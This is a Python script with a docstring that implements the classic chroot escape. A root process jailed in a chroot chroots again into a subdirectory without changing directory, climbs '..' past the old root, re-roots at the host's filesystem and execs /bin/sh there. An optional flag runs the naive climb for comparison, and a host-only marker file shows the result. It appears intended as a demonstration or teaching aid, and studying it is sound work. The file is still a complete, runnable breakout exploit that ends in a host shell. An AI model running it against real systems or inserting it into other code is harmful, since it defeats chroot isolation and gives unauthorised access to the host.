"""The classic chroot escape, done by a process that is itself locked in a chroot.

chroot(2) changes only where "/" is for path lookups. It does not move the working directory, and root may call
it again. So: chroot into a new subdirectory *without* chdir'ing into it. The working directory is now outside
the root, where ".." is never stopped, so walk up to the real / and chroot there.

(The `chroot` commands of busybox and coreutils always chdir into the new root, which is why this is a few lines
of Python and not a shell one-liner.)

usage: escape.py [--climb-only] ROOTFS MARKER     (MARKER: a file that exists only on the host)

--climb-only leaves out the second chroot and only climbs "..", from inside the root: the kernel stops ".." at the
root, so the process stays locked in (the naive escape, to compare).
"""

import os
import sys

args = sys.argv[1:]
climb_only = "--climb-only" in args
if climb_only:
    args.remove("--climb-only")
# relative paths mean the directory we start in; after the chroots below only an absolute path names the host's file
rootfs, marker = os.path.abspath(args[0]), os.path.abspath(args[1])


def can_read(path: str) -> str:
    try:
        with open(path) as f:
            return "reads: " + f.read().strip()
    except OSError as e:
        return f"cannot read it ({e.strerror})"


# 1. Lock ourselves in, exactly like `chroot ROOTFS`.
os.chroot(rootfs)
os.chdir("/")
print(f"jailed:  / holds {sorted(os.listdir('/'))[:6]} ...")
print(f"jailed:  the host's {marker}: {can_read(marker)}")

# 2. A second chroot, into a subdirectory, but stay where we are: our cwd is now *outside* our root.
if not climb_only:
    os.makedirs("/escape", exist_ok=True)
    os.chroot("/escape")

# 3. ".." from outside the root is never clamped: climb to the real top, then make it our root again.
for _ in range(64):
    os.chdir("..")
os.chroot(".")
shell = "/bin/sh"
if climb_only:
    # ".." from inside the root stopped at the root: "." is the image's top, and we are still locked in
    print(f"climbed: the host's {marker}: {can_read(marker)}")
    print(f"climbed: exec {shell} -- the image's busybox: still inside")
    os.execv(shell, [shell])

print(f"escaped: the host's {marker}: {can_read(marker)}")

# 4. Become a shell in the host's root directory: the "container" is gone.
print(f"escaped: exec {shell} -- from the host's filesystem, not the image's")
os.execv(shell, [shell])
